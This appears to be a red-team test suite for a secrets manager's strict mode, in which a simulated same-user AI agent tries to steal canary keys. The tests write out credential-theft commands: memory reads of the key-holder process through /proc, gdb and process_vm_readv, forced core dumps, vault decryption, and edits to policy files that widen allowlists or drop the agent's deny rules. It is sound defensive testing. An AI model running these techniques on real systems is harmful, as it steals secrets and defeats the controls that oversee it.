import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canary, findLeaks } from '../helpers/canary.js';
import { shellQuote } from '../helpers/cli.js';
import { startUpstream, type Upstream } from '../helpers/upstream.js';
import {
  AGENT_USER,
  asUser,
  type Background,
  cli,
  cliPath,
  decryptVault,
  gdbRead,
  ensureUser,
  inPty,
  PYTHON,
  readMemory,
  removeCopy,
  startAsUser,
  unavailable,
  userDir,
  waitFor,
} from './harness.js';

/**
 * Strict mode's red-team suite (issue 14). The "human" and the "agent" are one unprivileged
 * user. The human sets up a vault and starts the key holder through a pseudo-terminal; the
 * agent, without the passphrase, tries each attack. Every attack runs twice: with strict mode
 * off, where the rows marked `offLeaks` must leak (so the test can fail), and with strict mode
 * on, where nothing may leak and the attack must fail.
 */

const reason = unavailable();
const ci = process.env.CI !== undefined && process.env.CI !== '' && process.env.CI !== 'false';
if (reason !== undefined && ci) throw new Error(`the red-team suite must run under CI: ${reason}`);

const PASSPHRASE = 'correct horse battery staple';
const WRONG = 'Tr0ub4dor&3 guess';

interface World {
  strict: boolean;
  dir: string;
  home: string;
  project: string;
  token: string;
  canaries: { STRIPE_KEY: string; UNBOUND_KEY: string; OPEN_KEY: string };
  a: Upstream;
  b: Upstream;
  c: Upstream;
  holder: Background | undefined;
}

function baseEnv(w: World, extra: Record<string, string> = {}): Record<string, string> {
  return {
    PATH: '/usr/local/bin:/usr/bin:/bin',
    HOME: w.dir,
    LANG: 'C.UTF-8',
    AGENTSECRETS_HOME: w.home,
    AGENTSECRETS_ALLOW_PRIVATE: '127.0.0.1/32',
    ...extra,
  };
}

/**
 * The human's environment. Outside strict mode it holds AGENTSECRETS_PASSPHRASE, the
 * documented way to run a passphrase vault headless; strict mode refuses that variable.
 */
function humanEnv(w: World): Record<string, string> {
  return baseEnv(w, w.strict ? {} : { AGENTSECRETS_PASSPHRASE: PASSPHRASE });
}

/** The agent runs in the same account and session, so it sees what the human exported. */
function agentEnv(w: World, extra: Record<string, string> = {}): Record<string, string> {
  return { ...humanEnv(w), AGENTSECRETS_AGENT_TOKEN: w.token, ...extra };
}

async function human(w: World, script: string, input?: string) {
  const r = await asUser(script, {
    env: baseEnv(w, { AGENTSECRETS_PASSPHRASE: PASSPHRASE }),
    cwd: w.project,
    ...(input === undefined ? {} : { input }),
  });
  expect(r.code, r.out).toBe(0);
  return r.out;
}

async function agent(w: World, script: string, extra: Record<string, string> = {}, input?: string) {
  return asUser(script, {
    env: agentEnv(w, extra),
    cwd: w.project,
    timeoutMs: 90_000,
    ...(input === undefined ? {} : { input }),
  });
}

function leaked(w: World, text: string): string[] {
  return Object.values(w.canaries).flatMap((v) => [
    ...findLeaks(text, v),
    ...findLeaks(text, [...v].reverse().join('')),
  ]);
}

function upstreamLeaks(w: World, u: Upstream): string[] {
  return leaked(w, JSON.stringify(u.seen));
}

function holderPid(w: World): number {
  return (JSON.parse(readFileSync(join(w.home, 'proxy.json'), 'utf8')) as { pid: number }).pid;
}

async function startHolder(w: World): Promise<void> {
  const holder = startAsUser(cli('proxy', 'start', '--port', '0'), {
    env: humanEnv(w),
    cwd: w.project,
    ...(w.strict ? { input: `${PASSPHRASE}\r` } : {}),
  });
  w.holder = holder;
  await waitFor(
    () => holder.output().includes('Press Ctrl-C'),
    `the key holder (${holder.output()})`,
  );
}

async function setUp(strict: boolean): Promise<World> {
  const ids = ensureUser();
  const dir = userDir(ids);
  const [a, b, c] = await Promise.all([startUpstream(), startUpstream(), startUpstream()]);
  const w: World = {
    strict,
    dir,
    home: join(dir, 'state'),
    project: join(dir, 'project'),
    token: '',
    canaries: {
      STRIPE_KEY: canary('STRIPE'),
      UNBOUND_KEY: canary('UNBOUND'),
      OPEN_KEY: canary('OPEN'),
    },
    a,
    b,
    c,
    holder: undefined,
  };
  await asUser(`mkdir -p ${shellQuote(w.project)}`, { env: baseEnv(w), cwd: dir });
  await human(w, cli('init', '--backend', 'passphrase', '--weak-kdf-for-tests'));
  for (const [key, value] of Object.entries(w.canaries))
    await human(w, `printf %s ${shellQuote(value)} | ${cli('secrets', 'set', key)}`);
  const host = (u: Upstream) => `127.0.0.1:${u.port}`;
  await human(w, inPty(cli('workspace', 'allowlist', 'add', host(a), host(c), '--yes')));
  await human(w, inPty(cli('secrets', 'bind', 'STRIPE_KEY', host(a), '--yes')));
  await human(w, cli('agent', 'create', 'bot'));
  await human(
    w,
    inPty(cli('agent', 'policy', 'set', 'bot', '--deny-secrets', 'UNBOUND_KEY', '--yes')),
  );
  const issued = await human(w, inPty(cli('agent', 'token', 'issue', 'bot', '--yes')));
  w.token = /agt_[A-Za-z0-9._-]+/.exec(issued)![0];
  await human(w, inPty(cli('workspace', 'policy', 'set', '--require-identity', 'issued', '--yes')));
  if (strict) {
    const out = await human(w, inPty(cli('strict', 'enable')), `${PASSPHRASE}\r`);
    expect(out).toContain('strict mode is on');
  }
  await startHolder(w);
  return w;
}

async function tearDown(w: World | undefined): Promise<void> {
  if (w === undefined) return;
  await w.holder?.stop();
  // A key holder the suite started and left running (by pid, from proxy.json).
  try {
    process.kill(holderPid(w), 'SIGKILL');
  } catch {
    // already gone
  }
  await Promise.all([w.a.close(), w.b.close(), w.c.close()]);
  rmSync(w.dir, { recursive: true, force: true });
}

/** Edits a JSON file of the state folder as the agent would (python, no agentsecrets). */
function editJson(w: World, file: string, python: string): string {
  const path = join(w.home, file);
  return `${PYTHON} -c ${shellQuote(`import json\np=${JSON.stringify(path)}\nd=json.load(open(p))\n${python}\njson.dump(d,open(p,'w'))`)}`;
}

function callAs(u: Upstream, key: string, extra: string[] = []): string {
  return cli('call', '--url', `http://127.0.0.1:${u.port}/x`, '--bearer', key, ...extra);
}

describe.skipIf(reason !== undefined)(
  `strict mode against a same-user agent${reason === undefined ? '' : ` (skipped: ${reason})`}`,
  () => {
    afterAll(() => removeCopy());
    for (const strict of [false, true]) {
      describe(
        strict
          ? 'strict mode ON: every attempt fails, nothing leaks'
          : 'strict mode OFF: the attacks work',
        () => {
          let w: World;
          beforeAll(async () => {
            w = await setUp(strict);
          }, 180_000);
          afterAll(async () => tearDown(w), 60_000);

          /** Asserts the attack's outcome: leaks with strict off (where expected), never with it on. */
          function judge(out: string, offLeaks: boolean) {
            const found = leaked(w, out);
            if (strict) expect(found, out).toEqual([]);
            else if (offLeaks) expect(found.length, out).toBeGreaterThan(0);
          }

          it('normal work keeps working: a bound secret goes to its host, redacted in the answer', async () => {
            const r = await agent(w, callAs(w.a, 'STRIPE_KEY'));
            expect(r.code, r.out).toBe(0);
            expect(upstreamLeaks(w, w.a).length).toBeGreaterThan(0);
            expect(leaked(w, r.out)).toEqual([]);
            // The HTTP proxy, with the session token from proxy.json, as any agent uses it.
            const state = JSON.parse(readFileSync(join(w.home, 'proxy.json'), 'utf8')) as {
              port: number;
              session_token: string;
            };
            const seen = w.a.seen.length;
            const proxied = await agent(
              w,
              `curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:${state.port}/proxy -H 'X-AS-Target-URL: http://127.0.0.1:${w.a.port}/p' -H 'X-AS-Inject-Bearer: STRIPE_KEY' -H "X-AS-Agent-Token: $AGENTSECRETS_AGENT_TOKEN" -H 'X-AS-Session-Token: ${state.session_token}'`,
            );
            expect(proxied.out).toBe('200');
            expect(
              upstreamLeaks(w, { ...w.a, seen: w.a.seen.slice(seen) } as Upstream).length,
            ).toBeGreaterThan(0);
            if (strict) {
              const status = await agent(w, cli('strict', 'status', '--json'));
              expect(JSON.parse(status.out)).toMatchObject({
                strict: true,
                key_holder: { running: true, strict: true, dumpable: false, tampered: [] },
              });
            }
          });

          it('1. reveal through script (a wrong passphrase typed when asked)', async () => {
            const r = await agent(
              w,
              `${inPty(cli('secrets', 'get', 'STRIPE_KEY', '--yes'))} | cat`,
              {},
              `${WRONG}\r`,
            );
            judge(r.out, true);
            if (strict) expect(r.out).toMatch(/wrong passphrase|unlock_failed/);
          });

          it('2. env --no-mask | cat, and env | rev', async () => {
            const plain = await agent(
              w,
              `${cli('env', '--only', 'STRIPE_KEY', '--no-mask', '--', 'printenv', 'STRIPE_KEY')} | cat`,
            );
            judge(plain.out, true);
            const reversed = await agent(
              w,
              `${cli('env', '--only', 'STRIPE_KEY', '--no-mask', '--', 'printenv', 'STRIPE_KEY')} | rev`,
            );
            judge(reversed.out, true);
            const piped = await agent(
              w,
              `${inPty(cli('env', '--only', 'STRIPE_KEY', '--no-mask', '--', 'printenv', 'STRIPE_KEY'))} | cat`,
              {},
              `${WRONG}\r`,
            );
            judge(piped.out, true);
            if (strict) {
              // Strict mode hands the child placeholders, as `run` does.
              expect(plain.code, plain.out).toBe(0);
              expect(plain.out).toMatch(/agentsecrets-ph-STRIPE_KEY-/);
              expect(plain.out + reversed.out).toMatch(
                /strict mode: the command gets placeholders/,
              );
              // Asking for the real values needs the passphrase, which the agent does not have.
              const real = await agent(
                w,
                `${inPty(cli('env', '--real', '--only', 'STRIPE_KEY', '--no-mask', '--', 'printenv', 'STRIPE_KEY'))} | cat`,
                {},
                `${WRONG}\r`,
              );
              judge(real.out, false);
              expect(real.out).toMatch(/wrong passphrase|too many wrong passphrases/);
              const headless = await agent(
                w,
                `${cli('env', '--real', '--only', 'STRIPE_KEY', '--no-mask', '--', 'printenv', 'STRIPE_KEY')} | cat`,
              );
              judge(headless.out, false);
              expect(headless.out).toMatch(/needs_terminal|terminal/);
            }
          });

          it('11. run and env children: a placeholder in the child, the value only on the wire to the bound host', async () => {
            // The child goes through the intercepting proxy (NO_PROXY lists loopback by default,
            // and these upstreams are on 127.0.0.1, so the child clears it).
            const send = (u: Upstream, path: string) =>
              `NO_PROXY= no_proxy= curl -s -o /dev/null -w '%{http_code} ' -H "Authorization: Bearer $STRIPE_KEY" http://127.0.0.1:${u.port}${path}; printenv STRIPE_KEY`;
            for (const verb of ['run', 'env'] as const) {
              const seenA = w.a.seen.length;
              const seenC = w.c.seen.length;
              const bound = await agent(
                w,
                cli(verb, '--only', 'STRIPE_KEY', '--', 'sh', '-c', send(w.a, `/${verb}`)),
              );
              const elsewhere = await agent(
                w,
                cli(verb, '--only', 'STRIPE_KEY', '--', 'sh', '-c', send(w.c, `/${verb}`)),
              );
              const toA = { ...w.a, seen: w.a.seen.slice(seenA) } as Upstream;
              const toC = { ...w.c, seen: w.c.seen.slice(seenC) } as Upstream;
              if (verb === 'run' || strict) {
                // The child holds a placeholder; the bound host gets the value, another does not.
                expect(bound.code, bound.out).toBe(0);
                expect(bound.out).toMatch(/^200 agentsecrets-ph-STRIPE_KEY-/m);
                expect(upstreamLeaks(w, toA).length, bound.out).toBeGreaterThan(0);
                expect(elsewhere.out).toMatch(/^403 agentsecrets-ph-STRIPE_KEY-/m);
                expect(upstreamLeaks(w, toC)).toEqual([]);
                expect(leaked(w, bound.out + elsewhere.out)).toEqual([]);
              } else {
                // Outside strict mode `env` hands the child the value itself: it can send it to
                // any host the child reaches (the attack strict mode stops).
                expect(upstreamLeaks(w, toC).length, elsewhere.out).toBeGreaterThan(0);
              }
            }
          });

          it('3. every endpoint of the key holder socket', async () => {
            const sock = join(w.home, 'agentsecrets.sock');
            const target = JSON.stringify({
              target: { workspaceId: 'x', projectId: 'x', environment: 'development' },
            });
            const post = (path: string, body: string) =>
              `curl -s --unix-socket ${shellQuote(sock)} -X POST -H 'content-type: application/json' -d ${shellQuote(body)} http://holder${path}; echo`;
            // /v1/env with the real selection: read it from the files, as an agent would.
            const env = `${PYTHON} -c ${shellQuote(`import json,subprocess\nc=json.load(open(${JSON.stringify(join(w.home, 'config.json'))}))\nbody=json.dumps({"target":{"workspaceId":c["workspace_id"],"projectId":c["project_id"],"environment":"development"},"keys":["STRIPE_KEY"],"command":"x","identity":{"source":"env","token":${JSON.stringify(w.token)}}})\nprint(subprocess.run(["curl","-s","--unix-socket",${JSON.stringify(sock)},"-XPOST","-d",body,"http://holder/v1/env"],capture_output=True,text=True).stdout)`)}`;
            const r = await agent(
              w,
              [
                env,
                post('/v1/call', target),
                post('/v1/audit-key', '{}'),
                post('/v1/identify', target),
                `curl -s --unix-socket ${shellQuote(sock)} http://holder/v1/health; echo`,
                `curl -s --unix-socket ${shellQuote(sock)} http://holder/v1/state; echo`,
              ].join('; '),
            );
            judge(r.out, true);
            if (strict) expect(r.out).toContain('strict_mode');
          });

          it('10. each MCP tool', async () => {
            const transport = new StdioClientTransport({
              command: 'runuser',
              args: [
                '-u',
                AGENT_USER,
                '--',
                'env',
                '-i',
                ...Object.entries(agentEnv(w)).map(([k, v]) => `${k}=${v}`),
                process.execPath,
                cliPath(),
                'mcp',
                'serve',
              ],
              cwd: w.project,
              stderr: 'pipe',
            });
            const client = new Client({ name: 'redteam', version: '1.0.0' });
            await client.connect(transport);
            let out = '';
            try {
              const { tools } = await client.listTools();
              expect(tools.length).toBeGreaterThan(4);
              for (const tool of tools) {
                const props = Object.keys((tool.inputSchema.properties ?? {}) as object);
                const args: Record<string, unknown> = props.includes('url')
                  ? { url: `http://127.0.0.1:${w.a.port}/mcp`, bearer: 'STRIPE_KEY' }
                  : {};
                const result = await client
                  .callTool({ name: tool.name, arguments: args })
                  .catch((e: unknown) => ({ error: String(e) }));
                out += JSON.stringify(result);
              }
            } finally {
              await client.close();
            }
            // No MCP tool returns a value, strict or not.
            expect(leaked(w, out), out).toEqual([]);
          });

          const host = (u: Upstream) => `127.0.0.1:${u.port}`;
          const rights = [
            {
              name: 'workspaces.json allowlist: add its own host, call it',
              file: 'workspaces.json',
              edit: () =>
                `d['workspaces'][0]['allowlist'].append({'pattern':'${host(w.b)}','added_by':'x','added_at':'2026-01-01T00:00:00Z'})`,
              call: () => callAs(w.b, 'OPEN_KEY'),
              upstream: () => w.b,
              blocked: 'domain_not_in_allowlist',
            },
            {
              name: 'vault.json binding: rebind a key to another allowed host, call it',
              file: 'vault.json',
              edit: () =>
                `[r.update(binding={'domains':['${host(w.c)}'],'styles':[]}) for r in d['records'] if r['key']=='STRIPE_KEY']`,
              call: () => callAs(w.c, 'STRIPE_KEY'),
              upstream: () => w.c,
              blocked: 'secret_binding_mismatch',
            },
            {
              name: 'agents.json rules: drop its own deny rule, use the denied key',
              file: 'agents.json',
              edit: () => `[a.update(rules=None) for a in d['agents']]`,
              call: () => callAs(w.c, 'UNBOUND_KEY'),
              upstream: () => w.c,
              blocked: 'policy_denied',
            },
            {
              name: 'workspaces.json policy: accept anonymous callers, call without the token',
              file: 'workspaces.json',
              edit: () => `d['workspaces'][0]['policy']['require_identity']='anonymous'`,
              call: () => `AGENTSECRETS_AGENT_TOKEN= ${callAs(w.c, 'UNBOUND_KEY')}`,
              upstream: () => w.c,
              blocked: 'identity_required',
            },
          ];
          it.each(rights.map((r) => [r.name, r] as const))('7. %s', async (_name, row) => {
            const path = join(w.home, row.file);
            const before = readFileSync(path, 'utf8');
            const seenBefore = row.upstream().seen.length;
            try {
              const edit = await agent(w, editJson(w, row.file, row.edit()));
              expect(edit.code, edit.out).toBe(0);
              const r = await agent(w, row.call());
              const fresh = {
                ...row.upstream(),
                seen: row.upstream().seen.slice(seenBefore),
              } as Upstream;
              if (strict) {
                expect(r.out).toContain(row.blocked);
                const status = await agent(w, cli('strict', 'status', '--json'));
                expect(JSON.parse(status.out).key_holder.tampered).toContain(row.file);
                expect(upstreamLeaks(w, fresh)).toEqual([]);
                expect(leaked(w, r.out)).toEqual([]);
              } else {
                expect(r.code, r.out).toBe(0);
                expect(upstreamLeaks(w, fresh).length, r.out).toBeGreaterThan(0);
              }
            } finally {
              // Root writes over the existing file: its owner and mode stay the user's.
              writeFileSync(path, before);
            }
          });

          it('8. allowlist add, token issue and strict disable through script, with a wrong passphrase', async () => {
            const ws = join(w.home, 'workspaces.json');
            const agentsFile = join(w.home, 'agents.json');
            const wsBefore = readFileSync(ws, 'utf8');
            const agentsBefore = readFileSync(agentsFile, 'utf8');
            const add = await agent(
              w,
              inPty(cli('workspace', 'allowlist', 'add', host(w.b), '--yes')),
              {},
              `${WRONG}\r`,
            );
            const issue = await agent(
              w,
              inPty(cli('agent', 'token', 'issue', 'bot', '--yes')),
              {},
              `${WRONG}\r`,
            );
            if (strict) {
              const disable = await agent(w, inPty(cli('strict', 'disable')), {}, `${WRONG}\r`);
              expect(disable.out).toMatch(/wrong passphrase|too many wrong passphrases/);
              expect(readFileSync(join(w.home, 'vault.json'), 'utf8')).toContain('"strict": true');
              expect(add.out).toMatch(/wrong passphrase|too many wrong passphrases/);
              expect(issue.out).not.toMatch(/agt_/);
              expect(readFileSync(ws, 'utf8')).toBe(wsBefore);
              expect(readFileSync(agentsFile, 'utf8')).toBe(agentsBefore);
              const audit = await asUser(`cat ${shellQuote(join(w.home, 'audit'))}/*.jsonl`, {
                env: baseEnv(w),
                cwd: w.dir,
              });
              expect(audit.out).toMatch(
                /"method":"APPROVE".*"status":"BLOCKED".*"reason":"unlock_failed"/,
              );
            } else {
              expect(add.code, add.out).toBe(0);
              expect(readFileSync(ws, 'utf8')).toContain(host(w.b));
              expect(issue.out).toMatch(/agt_/);
            }
          });

          it('4. reading the key holder memory: /proc/PID/mem, gdb -p, process_vm_readv', async () => {
            const pid = holderPid(w);
            const needles = Object.values(w.canaries).map(shellQuote).join(' ');
            for (const attack of [
              `${PYTHON} ${shellQuote(readMemory())} ${pid} procmem ${needles}`,
              `${PYTHON} ${shellQuote(readMemory())} ${pid} vmreadv ${needles}`,
              `NEEDLES=${shellQuote(Object.values(w.canaries).join(' '))} timeout 120 gdb -p ${pid} -batch -x ${shellQuote(gdbRead())} 2>&1 | grep -E 'FOUND|ptrace'`,
            ]) {
              const r = await agent(w, attack);
              judge(r.out, true);
              if (strict) expect(r.out).toMatch(/ERROR|Operation not permitted|Permission denied/);
            }
          }, 240_000);

          it('5. making it dump core', async () => {
            const pid = holderPid(w);
            const pattern = shellQuote(Object.values(w.canaries).join('|'));
            const r = await agent(
              w,
              `prlimit --pid ${pid} --core=unlimited:unlimited 2>&1; prlimit --pid ${pid} --core=unlimited 2>&1; kill -ABRT ${pid}; for i in $(seq 1 120); do kill -0 ${pid} 2>/dev/null || break; sleep 0.5; done; for f in $(find ${shellQuote(w.dir)} -name 'core*' -type f 2>/dev/null); do grep -a -o -h -E ${pattern} "$f" | sort -u; done`,
            );
            judge(
              r.out,
              readFileSync('/proc/sys/kernel/core_pattern', 'utf8').trim().startsWith('core'),
            );
            await w.holder?.stop();
          }, 180_000);

          it('6. decrypting vault.json with everything on disk (and in its environment)', async () => {
            const r = await agent(w, `${process.execPath} ${shellQuote(decryptVault())}`);
            judge(r.out, true);
          });

          it('9. killing the key holder and starting its own', async () => {
            const env = await agent(
              w,
              `timeout 8 ${inPty(cli('proxy', 'start', '--port', '0'))}`,
              {},
              `${WRONG}\r`,
            );
            if (strict) {
              expect(env.out).not.toContain('Press Ctrl-C');
              const withEnv = await agent(w, cli('proxy', 'start', '--port', '0'), {
                AGENTSECRETS_PASSPHRASE: WRONG,
              });
              expect(withEnv.out).toContain('refuses AGENTSECRETS_PASSPHRASE');
              // Flipping the strict flag off in vault.json does not help either.
              await agent(w, editJson(w, 'vault.json', `d['key'].pop('strict', None)`));
              const flipped = await agent(
                w,
                `timeout 8 ${inPty(cli('proxy', 'start', '--port', '0'))}`,
                {},
                `${WRONG}\r`,
              );
              expect(flipped.out).not.toContain('Press Ctrl-C');
              judge(env.out + withEnv.out + flipped.out, false);
            } else {
              // Outside strict mode the passphrase in the session's environment is enough.
              expect(env.out).toContain('Press Ctrl-C');
            }
          });
        },
      );
    }
  },
);
